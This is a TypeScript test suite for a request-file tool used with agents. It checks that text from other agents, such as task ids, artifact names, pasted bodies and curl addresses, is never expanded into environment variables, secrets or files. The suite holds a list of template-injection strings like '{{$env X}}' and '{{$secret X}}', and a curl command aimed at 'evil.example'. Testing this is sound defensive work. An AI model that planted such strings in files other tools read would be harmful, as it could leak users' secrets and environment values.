import * as assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AgentCard } from '../../../src/protocol/card/agentCard.ts';
import { ExactNumber } from '../../../src/protocol/exactNumber.ts';
import type { Task } from '../../../src/protocol/message/task.ts';
import { readRequestFile } from '../../../src/request/check/readRequestFile.ts';
import type { RequestEntry } from '../../../src/request/file/requestEntry.ts';
import { importCurl } from '../../../src/request/import/curl.ts';
import { importJsonRpc } from '../../../src/request/import/jsonRpc.ts';
import { pasted } from '../../../src/request/import/paste.ts';
import { recordingOf } from '../../../src/request/import/recording.ts';
import { requestFileText, requestText, type RequestJson } from '../../../src/request/import/requestJson.ts';
import { requestsOfTask } from '../../../src/request/import/task.ts';
import type { Completion } from '../../../src/request/language/completion.ts';
import { completions } from '../../../src/request/language/completions.ts';
import { problemsInContext } from '../../../src/request/language/contextProblems.ts';
import { fixesFor } from '../../../src/request/language/fixes.ts';
import { emptyLanguageContext, type LanguageContext } from '../../../src/request/language/languageContext.ts';
import type { Edit } from '../../../src/request/language/rename.ts';
import { pastedLines } from '../../../src/request/language/textPlaces.ts';
import type { Scope } from '../../../src/request/resolve/fill.ts';
import { resolveAgent, resolveExpect, resolveRequest } from '../../../src/request/resolve/resolve.ts';
import { follow, type Path } from '../../../src/request/text/path.ts';
import { writeJson } from '../../../src/request/text/indentJson.ts';
import type { RequestResult } from '../../../src/request/values/requestResult.ts';
import { Story } from '../../support/chatHarness/story.ts';
import { caught, figure } from '../../support/figure.ts';
import { marked } from '../../support/request/marked.ts';

/** What an agent says to have something filled in, or to spoil what is around it. */
const attacks = [
  '{{$env X}}',
  '{{$secret X}}',
  '{{$prompt X}}',
  '{{$file x}}',
  '{{draw.task.id}}',
  '\\u007b\\u007b$env X}}',
  '{{{$env X}}',
  '{{{{$env X}}}}',
  '\\{{$env X}}',
  '\\\\{{$env X}}',
  '}}{{$env X}}',
  '"}}{{$env X}}',
  "']}}{{$env X}}",
  'x??$uuid',
  '{{',
  'x{',
  'x\\',
];

/** The first request of a file as it would be sent, where everything that can be asked for is there; `asked` has what was. */
async function sent(text: string, of: (entry: RequestEntry, scope: Scope) => Promise<unknown>, result?: RequestResult) {
  const asked: string[] = [];
  const file = readRequestFile(text);
  const note = (what: string) => (name: string) => (asked.push(`${what} ${name}`), 'FILLED');
  const later = (what: string) => (name: string) => Promise.resolve(note(what)(name));
  const scope: Scope = {
    file,
    result: name => (result === undefined && note('result')(name), result),
    functions: {
      now: () => (asked.push('now'), new Date(0)),
      // Of the message that is sent.
      uuid: () => 'UUID',
      sources: {
        env: note('env'),
        secret: later('secret'),
        prompt: later('prompt'),
        file: path => (asked.push(`file ${path}`), Promise.resolve({ bytes: Buffer.from('FILLED'), path } as never)),
      },
    },
  };
  const entry = file.requests.at(-1);
  assert.ok(entry !== undefined, text);
  return { value: await of(entry, scope), asked };
}

const applied = (text: string, edits: readonly Edit[]): string =>
  edits.reduce((now, { range: { offset, length }, text: inserted }) => now.slice(0, offset) + inserted + now.slice(offset + length), text);

const at = (value: unknown, path: Path): unknown => follow(value, path).value;
const ofRequest =
  (...path: Path) =>
  async (entry: RequestEntry, scope: Scope): Promise<unknown> =>
    at(await resolveRequest(entry, scope, true), path);
const ofExpect =
  (...path: Path) =>
  async (entry: RequestEntry, scope: Scope): Promise<unknown> =>
    at(await resolveExpect(entry, scope), path);
const ofBody =
  (...path: Path) =>
  async (entry: RequestEntry, scope: Scope): Promise<unknown> => {
    const resolved = await resolveRequest(entry, scope, true);
    return 'raw' in resolved ? at(JSON.parse(resolved.raw), path) : resolved;
  };

const taskOf = (id: string): Task => ({ id, status: { state: 'TASK_STATE_COMPLETED' }, history: [] });
const recorded = (name: string, mediaType: string, agent = 'A'): string =>
  requestFileText(
    recordingOf(new Story().user(0, 'Hi', { taskId: 't' }).artifact(1, 't', [{ raw: 'AA', mediaType }], { name }).entries, agent).requests,
  );
const cardOf = (text: string): AgentCard => ({
  name: text,
  description: '',
  version: '1',
  capabilities: {},
  supportedInterfaces: [],
  defaultInputModes: [text],
  defaultOutputModes: [text],
  skills: [{ id: text, name: 'S', description: '', tags: [] }],
});
const worldOf = (text: string): LanguageContext => ({
  ...emptyLanguageContext,
  agents: [
    { name: 'A', url: 'http://a', card: cardOf(text) },
    { name: text, url: 'http://b' },
  ],
  contexts: () => [{ id: text, title: '' }],
  tasks: () => [{ id: text, title: '' }],
});
/** The file after a completion was chosen. */
function completed(source: string, world: LanguageContext, chosen: (completion: Completion) => boolean): string | undefined {
  const { text, caret } = marked(source);
  const one = completions(readRequestFile(text), caret, world).find(chosen);
  return one && applied(text, [{ range: one.range, text: one.insert }]);
}
const completedWith = (source: string) => (text: string) => completed(source, worldOf(text), ({ label }) => label === text);
/** The file after the fix that names the text. */
const fixed =
  (code: string, source: string, agents = worldOf) =>
  (text: string): string | undefined => {
    const file = readRequestFile(source);
    const world = agents(text);
    const problem = problemsInContext(file, world).find(one => one.code === code);
    assert.ok(problem !== undefined, code);
    const fix = fixesFor(problem, file, world).find(({ title }) => title.args.includes(text));
    return fix && applied(source, fix.edits);
  };
const bodyOf = (text: string): string =>
  JSON.stringify({
    jsonrpc: '2.0',
    id: text,
    method: 'SendMessage',
    params: { message: { messageId: 'm', role: 'ROLE_USER', parts: [{ text }, { data: { [text]: [text] } }] } },
  });
const inSource = (json: string): string => json.replaceAll('{{', '\\u007b\\u007b').replaceAll('}}{\\u007b', '}}\\u007b\\u007b');
const curlOf = (text: string): string => `curl 'http://evil.example/${text.replaceAll("'", "'\\''")}' -d '${bodyOf('x')}'`;

/** Where a text of others enters a file: the file with it, undefined where it is not offered at all, and what it must be there. */
const places: Readonly<
  Record<string, readonly [write: (text: string) => string | undefined, read: (entry: RequestEntry, scope: Scope) => Promise<unknown>]>
> = {
  'id of a task from the history': [text => requestFileText(requestsOfTask(taskOf(text), 'A')), ofRequest('params', 'id')],
  'name of the agent of such a task': [text => requestFileText(requestsOfTask(taskOf('t'), text)), resolveAgent],
  'message of such a task': [
    text =>
      requestFileText(
        requestsOfTask({ ...taskOf('t'), history: [{ messageId: 'm', role: 'ROLE_USER', parts: [{ text, mediaType: 'text/x' }] }] }, 'A'),
      ),
    ofRequest('params', 'message', 'parts', 0, 'text'),
  ],
  'name of a recorded artifact': [text => recorded(text, 'image/png'), ofExpect('artifacts', 0, 'name')],
  'media type of a recorded artifact': [text => recorded('n', text), ofExpect('artifacts', 0, 'mediaType')],
  'name of a recorded agent': [text => recorded('n', 'image/png', text), resolveAgent],
  'name of the agent of a new file': [text => requestText({ agent: text, requests: [{ message: 'Hello!' }] }), resolveAgent],
  'id of a task, completed': [completedWith('{ "agent": "A", "method": "GetTask", "params": { "id": "‸" } }'), ofRequest('params', 'id')],
  'id of a context, completed': [
    completedWith('{ "agent": "A", "method": "ListTasks", "params": { "contextId": "‸" } }'),
    ofRequest('params', 'contextId'),
  ],
  'media type of a card, completed': [
    completedWith('{ "agent": "A", "message": [{ "url": "http://x", "mediaType": "‸" }] }'),
    ofRequest('params', 'message', 'parts', 0, 'mediaType'),
  ],
  'media type of a card, completed without quotes': [
    completedWith('{ "agent": "A", "message": "x", "expect": { "artifacts": [{ "mediaType": ‸ }] } }'),
    ofExpect('artifacts', 0, 'mediaType'),
  ],
  'id of a skill, completed': [
    completedWith('{ "agent": "A", "message": "x", "metadata": { "skillId": "‸" } }'),
    ofRequest('params', 'metadata', 'skillId'),
  ],
  'name of an agent, completed': [completedWith('{ "agent": "‸", "message": "x" }'), resolveAgent],
  'name of an agent in an empty file': [
    text =>
      completed('‸', { ...emptyLanguageContext, agents: [{ name: text, url: 'http://a' }] }, ({ label }) => label === 'Request')
        // What VS Code makes of the places of the snippet.
        ?.replace(/\$\{1:((?:\\.|[^\\}])*)\}/, (_, words: string) => words.replaceAll(/\\([\\$}])/g, '$1'))
        .replace('${2:Hello}', 'Hello'),
    resolveAgent,
  ],
  'name of an agent, put in place of an unknown one': [fixed('unknown-agent', '{ "agent": "Nobody", "message": "x" }'), resolveAgent],
  'name of an agent, added': [fixed('no-agent', '{ "message": "x" }'), resolveAgent],
  'media type of a card, put in place of another': [
    fixed('unoffered-media-type', '{ "agent": "A", "message": [{ "url": "http://x", "mediaType": "a/b" }] }'),
    ofRequest('params', 'message', 'parts', 0, 'mediaType'),
  ],
  body: [text => requestFileText([importJsonRpc(bodyOf(text), 'A').request]), ofRequest('params', 'message', 'parts', 0, 'text')],
  'body, pasted into a list': [text => pasted(bodyOf(text), { whole: false }).offers.find(({ as }) => as === 'request')?.text, ofAgentless],
  'body as written': [text => importJsonRpc(bodyOf(text)).raw, ofBody('params', 'message', 'parts', 0, 'text')],
  'body as written, its agent': [text => importJsonRpc(bodyOf('x'), text).raw, resolveAgent],
  'body as written, with escapes': [text => importJsonRpc(inSource(bodyOf(text))).raw, ofBody('params', 'message', 'parts', 0, 'text')],
  'body as written, its id': [text => importJsonRpc(inSource(bodyOf(text))).raw, ofBody('id')],
  'body as it is pasted, or its copy': [
    text => {
      const body = inSource(bodyOf(text));
      const { fits, offers } = pasted(body, { whole: true });
      return fits ? body : offers.find(({ as }) => as === 'body')?.text;
    },
    ofBody('params', 'message', 'parts', 0, 'text'),
  ],
};

function ofAgentless(entry: RequestEntry, scope: Scope): Promise<unknown> {
  return ofRequest('params', 'message', 'parts', 0, 'text')(entry, scope);
}

const addresses: Readonly<Record<string, (text: string) => string | undefined>> = {
  'address of a cURL command': text => requestFileText([importCurl(curlOf(text)).request]),
  'address of a cURL command, as written': text => importCurl(curlOf(text)).raw,
  'address of a pasted cURL command': text => pasted(curlOf(text), { whole: true }).offers[0]?.text,
};

/** Fails where the text is another one when the file is sent, or anything was asked for. */
async function assertText(written: string, read: (entry: RequestEntry, scope: Scope) => Promise<unknown>, text: string): Promise<void> {
  const { value, asked } = await sent(written, read);
  assert.deepEqual({ value, asked }, { value: text, asked: [] }, written);
}

suite('texts of agents in request files', () => {
  let texts = 0;
  let filled = 0;
  const count = async (work: () => Promise<void>): Promise<void> => {
    texts++;
    await work().catch((error: unknown) => {
      filled++;
      throw error;
    });
  };
  suiteTeardown(() => figure('F35', { texts, 'filled in or changed': filled }, `${texts} texts, ${filled} filled in or changed`));

  for (const [place, [write, read]] of Object.entries(places)) {
    test(place, async () => {
      for (const text of attacks) {
        const written = write(text);
        assert.ok(written !== undefined, `${text} is not offered`);
        await count(() => assertText(written, read, text));
      }
    });
  }

  for (const [place, write] of Object.entries(addresses)) {
    test(place, async () => {
      for (const text of attacks) {
        const written = write(text);
        assert.ok(written !== undefined, text);
        await count(() => assertText(written, resolveAgent, `http://evil.example/${text}`));
      }
    });
  }

  test('names of members of an answer', async () => {
    let offered = 0;
    for (const text of [...attacks, 'plain', 'with blanks', "it's", 'a.b', '}']) {
      const data = { [text]: 'VALUE' };
      const task: Task = { ...taskOf('t'), artifacts: [{ artifactId: 'a', parts: [{ data }] }] };
      const path = 'draw.task.artifacts[0].parts[0].data';
      const source = `{ "agent": "A", "requests": [{ "name": "draw", "message": "x" }, { "name": "b", "message": "{{${path}.‸}}" }] }`;
      const world = { ...emptyLanguageContext, result: () => ({ task }) };
      const { text: file, caret } = marked(source);
      for (const { insert, range } of completions(readRequestFile(file), caret, world)) {
        offered++;
        await count(async () => {
          const written = applied(file, [{ range, text: insert }]);
          const { value, asked } = await sent(written, ofRequest('params', 'message', 'parts', 0, 'text'), { task });
          assert.deepEqual({ value, asked }, { value: 'VALUE', asked: [] }, written);
        });
      }
    }
    assert.ok(offered >= 4, `${offered} were offered`);
  });

  test('lines pasted beside braces: no template arises at the seam, and those that are there stay', async () => {
    const rows: readonly (readonly [source: string, pasted: string, sent: string | undefined])[] = [
      ['{‸', '{$env X}}\nb', '{{$env X}}\nb'],
      ['{{‸', '$env X}}\nb', '{{$env X}}\nb'],
      ['{{‸ }}', '$env X\nb', '{{$env X\nb }}'],
      ['\\\\{{{‸', '{$env X}}\nb', '{{{{$env X}}\nb'],
      ['\\\\‸', '{{$env X}}\nb', '\\{{$env X}}\nb'],
      ['{{$timestamp}}{‸', '{$env X}}\nb', '1970-01-01T00:00:00.000Z{{$env X}}\nb'],
      ['‸{{$timestamp}}', 'a\n{{', 'a\n{{1970-01-01T00:00:00.000Z'],
      ['‸{$env X}}', 'a\n{', undefined],
      ['‸{{$timestamp}}', 'a\n{', undefined],
      ['‸{{$timestamp}}', 'a\n\\', undefined],
      ...attacks.map(text => ['‸', `a\n${text}`, `a\n${text}`] as const),
    ];
    for (const [inside, lines, wanted] of rows) {
      const { text, caret } = marked(`{ "agent": "A", "message": "${inside}" }`);
      const edit = pastedLines(text, false, { offset: caret, length: 0 }, lines);
      if (wanted === undefined) assert.equal(edit, undefined, inside);
      else
        await count(async () => {
          assert.ok(edit !== undefined);
          const { value, asked } = await sent(applied(text, [edit]), ofRequest('params', 'message', 'parts', 0, 'text'));
          assert.deepEqual({ value, asked: asked.filter(one => one !== 'now') }, { value: wanted, asked: [] }, inside);
        });
    }
  });

  test('an agent is known by the name that the file has of it', () => {
    const written = requestText({ agent: '{{$env X}}', message: 'x' });
    assert.deepEqual(problemsInContext(readRequestFile(written), worldOf('{{$env X}}')), []);
  });

  test('names of members, and digits, are written as they are', () => {
    const request: RequestJson = { agent: 'A', params: { data: { '{{$env X}}': new ExactNumber('9007199254740993') } } };
    assert.match(requestText(request), /"\{\{\$env X\}\}": 9007199254740993\n/);
    const body = bodyOf('{{$env X}}');
    assert.equal(at(JSON.parse(importJsonRpc(body).raw ?? ''), ['params', 'message', 'parts', 1, 'data', '{{$env X}}', 0]), '\\{{$env X}}');
  });

  test('nobody else escapes braces, and requests are written in one place', () => {
    const root = join(import.meta.dirname, '../../..');
    const sources = globSync('src/**/*.{ts,tsx}', { cwd: root });
    assert.ok(sources.length > 500);
    const holding = (pattern: RegExp, among = sources): string[] =>
      among.filter(path => pattern.test(readFileSync(join(root, path), 'utf8'))).map(path => path.replaceAll('\\', '/'));
    assert.deepEqual(holding(/\.replace(?:All)?\(\s*(?:(['"`])\{\{\1|\/\\?\{(?:\\?\{|\{2\})\/)/), ['src/request/template/template.ts']);
    const writers = sources.filter(path => /import[\\/]|newRequestFile|requestImports/.test(path) && /request/.test(path));
    assert.deepEqual(holding(/\bwriteJson\(/, writers), ['src/request/import/requestJson.ts']);
  });

  test('what was written before is noticed', async () => {
    const [request] = requestsOfTask(taskOf('{{$env X}}'), 'A');
    await assert.rejects(assertText(writeJson(request), ofRequest('params', 'id'), '{{$env X}}'), assert.AssertionError);
    caught('F35', 'a task id that is written as it is');
    const before = inSource(bodyOf('{{$env X}}')).replaceAll('{{', '\\\\{{');
    await assert.rejects(assertText(before, ofBody('id'), '{{$env X}}'), assert.AssertionError);
    caught('F35', 'braces that are looked for in the source of a body');
  });
});
